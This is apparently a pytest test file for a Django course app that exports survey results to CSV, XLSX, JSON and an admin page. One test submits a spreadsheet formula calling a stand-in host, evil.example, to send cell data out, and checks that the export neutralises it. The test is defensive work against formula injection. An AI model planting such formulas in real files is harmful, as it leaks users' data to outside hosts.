import csv
import dataclasses
import datetime
import io
import json

from django.core.management import CommandError, call_command

import pytest
from openpyxl import load_workbook

from community_courses.exporting import survey_results_tables, tables_csv, tables_xlsx
from community_courses.models import SurveyPhase
from community_courses.selectors.survey_results import survey_results
from community_courses.services.enrolment import enrolment_create, lesson_complete
from community_courses.services.surveys import survey_response_submit
from tests.factories.libraries import UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def six_pairs(course, lessons, settings):
    """Six participants answered before (2) and after (4, one of them 5)."""
    settings.SURVEY_MIN_GROUP_SIZE = 5
    likert, _confidence, _single, _multiple, text = course.survey_template.questions.all()
    for n in range(6):
        enrolment = enrolment_create(course=course, user=UserFactory(username=f"hv{n}"))
        enrolment.course = course
        survey_response_submit(
            enrolment=enrolment, phase=SurveyPhase.BEFORE, anonymous=True, answers={str(likert.pk): 2}
        )
        for lesson in lessons:
            enrolment = lesson_complete(enrolment=enrolment, lesson=lesson)
        enrolment.course = course
        survey_response_submit(
            enrolment=enrolment,
            phase=SurveyPhase.AFTER,
            anonymous=True,
            answers={str(likert.pk): 5 if n == 0 else 4, str(text.pk): f"Góp ý số {n}"},
        )
    return course


def test_xlsx_export_opens_with_openpyxl_and_holds_the_figures(six_pairs):
    workbook = load_workbook(io.BytesIO(tables_xlsx(survey_results_tables(survey_results(course=six_pairs)))))

    assert workbook.sheetnames == ["Summary", "Items", "Distributions", "Free text"]
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Answers before"] == 6
    assert summary["Participants who answered both"] == 6
    items = list(workbook["Items"].iter_rows(values_only=True))
    header, first = items[0], items[1]
    row = dict(zip(header, first, strict=True))
    assert row["Question"] == "Mức độ hài lòng với khóa học"
    assert row["Mean before"] == 2
    assert row["Mean after"] == pytest.approx(4.167, abs=0.001)
    assert row["Pairs"] == 6
    assert row["Mean change (after − before)"] == pytest.approx(2.167, abs=0.001)
    # The confidence question nobody answered: hidden, with the reason in the cell.
    assert dict(zip(header, items[2], strict=True))["Answered before"] == "hidden (fewer than 5)"
    texts = [row[3] for row in workbook["Free text"].iter_rows(min_row=2, values_only=True)]
    assert texts == [f"Góp ý số {n}" for n in range(6)]


def test_survey_report_command_writes_json_csv_and_xlsx(six_pairs, tmp_path):
    out = io.StringIO()
    call_command("survey_report", "--course", six_pairs.slug, "--format", "json", "--language", "en", stdout=out)
    data = json.loads(out.getvalue())
    assert data["course_title"] == six_pairs.title
    assert data["items"][0]["change"]["pairs"] == 6

    csv_path = tmp_path / "ket-qua.csv"
    call_command(
        "survey_report", "--course", six_pairs.slug, "--format", "csv", "--out", str(csv_path), stderr=io.StringIO()
    )
    text = csv_path.read_text(encoding="utf-8-sig")
    assert "Mức độ hài lòng với khóa học" in text

    xlsx_path = tmp_path / "ket-qua.xlsx"
    call_command(
        "survey_report",
        "--course",
        six_pairs.slug,
        "--format",
        "xlsx",
        "--out",
        str(xlsx_path),
        "--language",
        "en",
        stderr=io.StringIO(),
    )
    assert load_workbook(xlsx_path)["Items"]["B2"].value == "Mức độ hài lòng với khóa học"


def test_survey_report_explains_bad_input(six_pairs):
    with pytest.raises(CommandError, match="No course"):
        call_command("survey_report", "--course", "khong-co", "--format", "json")
    with pytest.raises(CommandError, match="--out"):
        call_command("survey_report", "--course", six_pairs.slug, "--format", "xlsx")


def test_admin_downloads_for_the_centre_staff_only(client, six_pairs, centre_staff, other_librarian):
    client.force_login(centre_staff)
    url = f"/admin/courses/{six_pairs.pk}/survey/"

    page = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 200
    content = page.content.decode()
    assert "Mức độ hài lòng với khóa học" in content
    assert "+2.17" in content
    xlsx = client.get(url + "?format=xlsx", HTTP_ACCEPT_LANGUAGE="en")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert load_workbook(io.BytesIO(xlsx.content))["Items"]["I2"].value == pytest.approx(4.167, abs=0.001)
    assert client.get(url + "?format=csv", HTTP_ACCEPT_LANGUAGE="en").content.decode("utf-8-sig").startswith("Summary")

    client.force_login(other_librarian)
    assert client.get(url).status_code == 404


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return cells


def test_a_formula_answered_in_the_survey_is_text_in_the_csv_and_xlsx(six_pairs, lessons):
    # Given a participant who answered the free-text question with a formula
    likert, _confidence, _single, _multiple, text = six_pairs.survey_template.questions.all()
    enrolment = enrolment_create(course=six_pairs, user=UserFactory(username="hv-cong-thuc"))
    for lesson in lessons:
        enrolment = lesson_complete(enrolment=enrolment, lesson=lesson)
    enrolment.course = six_pairs
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Xem kết quả")'
    survey_response_submit(
        enrolment=enrolment,
        phase=SurveyPhase.AFTER,
        anonymous=True,
        answers={str(likert.pk): 4, str(text.pk): formula},
    )
    tables = survey_results_tables(survey_results(course=six_pairs))

    # When the results are written as CSV and as XLSX
    csv_rows = list(csv.reader(io.StringIO(tables_csv(tables).lstrip("\ufeff"))))
    cells = _xlsx_cells(tables_xlsx(tables))

    # Then the answer is text behind a quote in both; other answers are unchanged
    assert ["'" + formula] == [row[3] for row in csv_rows if len(row) == 4 and "evil" in row[3]]
    assert ["'" + formula] == [cell.value for cell in cells if "evil" in str(cell.value)]
    assert "Góp ý số 1" in [row[3] for row in csv_rows if len(row) == 4]


def test_numbers_and_dates_stay_typed_values_and_vietnamese_text_is_unchanged():
    tables = [("Bảng", ["Nhóm", "Thay đổi", "Ngày"], [["Phường Bến Nghé", -1.25, datetime.date(2026, 3, 25)]])]

    [_title, _header, row] = list(csv.reader(io.StringIO(tables_csv(tables).lstrip("\ufeff"))))
    cells = _xlsx_cells(tables_xlsx(tables))

    assert row == ["Phường Bến Nghé", "-1.25", "2026-03-25"]
    ward, change, day = cells[3:]
    assert (ward.value, ward.data_type) == ("Phường Bến Nghé", "s")
    assert (change.value, change.data_type) == (-1.25, "n")
    assert (day.is_date, day.value.date()) == (True, datetime.date(2026, 3, 25))


@pytest.fixture
def thirty_pairs(course, lessons, settings):
    """Thirty participants who all answered higher after: a very small p-value."""
    settings.SURVEY_MIN_GROUP_SIZE = 5
    likert = course.survey_template.questions.all()[0]
    for n in range(30):
        enrolment = enrolment_create(course=course, user=UserFactory(username=f"hv{n}"))
        enrolment.course = course
        survey_response_submit(
            enrolment=enrolment, phase=SurveyPhase.BEFORE, anonymous=True, answers={str(likert.pk): 1 + n % 2}
        )
        for lesson in lessons:
            enrolment = lesson_complete(enrolment=enrolment, lesson=lesson)
        enrolment.course = course
        survey_response_submit(
            enrolment=enrolment, phase=SurveyPhase.AFTER, anonymous=True, answers={str(likert.pk): 4 + n % 3 // 2}
        )
    return course


def test_a_tiny_p_value_reads_less_than_not_zero_in_every_export_and_the_page(client, thirty_pairs, centre_staff):
    p = survey_results(course=thirty_pairs).items[0].change.wilcoxon_p
    assert 0 < p < 0.0001  # the data make the point: rounded to 4 places it would be 0.0

    tables = survey_results_tables(survey_results(course=thirty_pairs))
    csv_rows = list(csv.reader(io.StringIO(tables_csv(tables).lstrip("\ufeff"))))
    header = next(row for row in csv_rows if "Wilcoxon p-value" in row)
    item_row = csv_rows[csv_rows.index(header) + 1]
    assert item_row[header.index("Wilcoxon p-value")] == "< 0.0001"
    workbook = load_workbook(io.BytesIO(tables_xlsx(tables)))
    items = workbook["Items"]
    column = [cell.value for cell in items[1]].index("Wilcoxon p-value")
    assert items.cell(row=2, column=column + 1).value == "< 0.0001"
    assert json.loads(json.dumps(dataclasses.asdict(survey_results(course=thirty_pairs)), default=str))["items"][0][
        "change"
    ]["wilcoxon_p"] == pytest.approx(p)

    client.force_login(centre_staff)
    page = client.get(f"/admin/courses/{thirty_pairs.pk}/survey/").content.decode()
    assert "p &lt; 0,0001" in page
    assert "p = 0,0000" not in page
